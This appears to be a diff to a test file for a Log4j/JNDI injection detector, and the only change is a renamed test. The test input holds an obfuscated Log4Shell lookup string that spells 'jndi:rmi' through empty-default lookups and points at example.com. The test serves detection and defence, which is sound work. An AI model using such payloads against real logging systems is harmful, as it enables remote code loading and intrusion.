@@ -115,7 +115,7 @@ test('JNDI analysis stays linear on long adversarial input', () => {
   }
 })
 
-test('issue 3: letters spelled one empty lookup each are Log4j obfuscation, even cut short', () => {
+test('JNDI: letters spelled one empty lookup each are Log4j obfuscation, even cut short', () => {
   assert.equal(detect('${${::-j}${::-n}${::-d}${::-i}${::-r}${::-m}${::-i}://example.com')?.rule, 'log4j-obfuscation')
   assert.ok(detect('${${::-j}${::-n}${::-d}')!.confidence >= 0.8)
   // shell and compose defaults name a variable: not obfuscation
